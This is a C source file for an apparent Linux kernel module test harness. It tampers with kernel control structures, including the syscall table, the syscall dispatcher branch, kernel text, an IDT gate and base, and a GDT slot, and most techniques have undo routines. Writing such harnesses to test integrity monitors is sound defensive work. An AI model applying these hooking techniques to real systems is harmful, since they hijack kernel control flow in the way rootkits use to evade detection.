// SPDX-License-Identifier: MIT OR GPL-2.0
/* Attacks on code and on the tables that lead to code: syscall table, dispatcher, kernel text, IDT, GDT. */
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <linux/percpu.h>
#include <linux/ptrace.h>
#include <linux/smp.h>
#include <linux/syscalls.h>
#include <asm/desc.h>

#include "attack.h"
#include "vector.h"

/* The victim: a system call that nothing has used for decades. */
#define VICTIM_NUMBER __NR_ustat
#define VICTIM_SYMBOL "__x64_sys_ustat"

/* Eight bytes at one place, as they were. */
struct patch {
    unsigned long address;
    u64 original;
    unsigned int size;
};

static int apply(struct patch *patch, unsigned long address, u64 value, unsigned int size)
{
    u64 original = 0;
    int result;

    if (patch->address)
        return -EBUSY;
    memcpy(&original, (void *)address, size);
    result = overwrite(address, value, size);
    if (memcmp((void *)address, &original, size)) {
        patch->address = address;
        patch->original = original;
        patch->size = size;
    }
    return result;
}

static int restore(struct patch *patch)
{
    int result = patch->address ? overwrite(patch->address, patch->original, patch->size) : 0;

    if (!result)
        patch->address = 0;
    return result;
}

static asmlinkage long hijacked(const struct pt_regs *regs)
{
    return ATTACK_MAGIC;
}

/* The table itself. Kernels since 6.1.85 dispatch without it, so what it leads to is asked of it here. */
static struct patch table_patch;

static int strike_table(u64 argument, u64 *answer)
{
    typedef asmlinkage long (*handler)(const struct pt_regs *regs);
    handler *table = (handler *)symbol("sys_call_table");
    struct pt_regs nothing = {};
    int result;

    if (!table)
        return -ENOENT;
    result = apply(&table_patch, (unsigned long)&table[VICTIM_NUMBER], (u64)hijacked, sizeof(u64));
    *answer = result ? 0 : READ_ONCE(table[VICTIM_NUMBER])(&nothing);
    return result;
}

static int undo_table(void)
{
    return restore(&table_patch);
}

/* The dispatcher of those kernels: one direct branch for each system call, of which we move the target. */
static struct patch dispatch_patch;

static int strike_dispatch(u64 argument, u64 *answer)
{
    u8 *dispatcher = (u8 *)symbol("x64_sys_call");
    unsigned long target = symbol(VICTIM_SYMBOL);
    unsigned int at;

    if (!dispatcher || !target)
        return -ENOENT;
    for (at = 1; at < 0x8000; at++) {
        unsigned long next = (unsigned long)&dispatcher[at] + sizeof(s32);
        bool is_branch = dispatcher[at - 1] == 0xe8 || dispatcher[at - 1] == 0xe9 ||
                         (at > 1 && dispatcher[at - 2] == 0x0f && (dispatcher[at - 1] & 0xf0) == 0x80);
        s32 distance;

        memcpy(&distance, &dispatcher[at], sizeof(distance));
        if (is_branch && next + distance == target)
            return apply(&dispatch_patch, (unsigned long)&dispatcher[at], (u32)((unsigned long)hijacked - next), sizeof(u32));
    }
    return -ENOENT;
}

static int undo_dispatch(void)
{
    return restore(&dispatch_patch);
}

/* The first bytes of a kernel function become: mov eax, ATTACK_MAGIC; ret. */
static struct patch text_patch;

static int strike_text(u64 argument, u64 *answer)
{
    unsigned long victim = symbol(VICTIM_SYMBOL);

    if (!victim)
        return -ENOENT;
    return apply(&text_patch, victim, 0xccccc300000000b8ULL | (ATTACK_MAGIC << 8), sizeof(u64));
}

static int undo_text(void)
{
    return restore(&text_patch);
}

/* One gate of the IDT. */
static struct patch gate_patches[2];

static gate_desc our_gate(void)
{
    gate_desc gate;

    pack_gate(&gate, GATE_INTERRUPT, (unsigned long)attack_gate, 0, 0, __KERNEL_CS);
    return gate;
}

static int strike_gate(u64 argument, u64 *answer)
{
    gate_desc *table = (gate_desc *)symbol("idt_table");
    gate_desc gate = our_gate();
    u64 halves[2];
    int result;

    if (!table)
        return -ENOENT;
    memcpy(halves, &gate, sizeof(halves));
    result = apply(&gate_patches[1], (unsigned long)&table[ATTACK_VECTOR] + sizeof(u64), halves[1], sizeof(u64));
    if (!result)
        result = apply(&gate_patches[0], (unsigned long)&table[ATTACK_VECTOR], halves[0], sizeof(u64));
    *answer = result ? 0 : attack_raise();
    return result;
}

static int undo_gate(void)
{
    int first = restore(&gate_patches[0]);
    int second = restore(&gate_patches[1]);

    return first ? first : second;
}

/* The IDT's register: a table of our own, for as long as interrupts are off. */
static int strike_idt_base(u64 argument, u64 *answer)
{
    gate_desc *copy = (gate_desc *)get_zeroed_page(GFP_KERNEL);
    struct desc_ptr original, ours, now;
    unsigned long flags;
    int result = -EPERM;

    if (!copy)
        return -ENOMEM;
    local_irq_save(flags);
    store_idt(&original);
    memcpy(copy, (void *)original.address, original.size + 1);
    copy[ATTACK_VECTOR] = our_gate();
    ours.address = (unsigned long)copy;
    ours.size = original.size;
    asm volatile("lidt %0" : : "m"(ours));
    store_idt(&now);
    if (now.address == ours.address) {
        *answer = attack_raise();
        asm volatile("lidt %0" : : "m"(original));
        result = 0;
    }
    local_irq_restore(flags);
    free_page((unsigned long)copy);
    return result;
}

/* A descriptor of our own in the GDT, in the one slot that Linux leaves free; user space sees it with LAR. */
#define FREE_SLOT 7
static struct desc_struct *written_slot;

static int strike_gdt(u64 argument, u64 *answer)
{
    struct desc_struct *slot = &get_cpu_gdt_rw(raw_smp_processor_id())[FREE_SLOT];
    u64 data_of_ring_3 = 0x00cff3000000ffffULL, present;
    int result;

    memcpy(&present, slot, sizeof(present));
    if (present)
        return -EBUSY;
    result = store(slot, data_of_ring_3, sizeof(u64));
    memcpy(&present, slot, sizeof(present));
    if (present)
        written_slot = slot;
    *answer = FREE_SLOT * 8 + 3;
    return result;
}

static int undo_gdt(void)
{
    int result = written_slot ? store(written_slot, 0, sizeof(u64)) : 0;

    if (!result)
        written_slot = NULL;
    return result;
}

const struct verb table_verbs[] = {
    { "syscall-table", strike_table, undo_table },
    { "syscall-dispatch", strike_dispatch, undo_dispatch },
    { "kernel-text", strike_text, undo_text },
    { "idt-gate", strike_gate, undo_gate },
    { "idt-base", strike_idt_base, NULL },
    { "gdt", strike_gdt, undo_gdt },
    {},
};
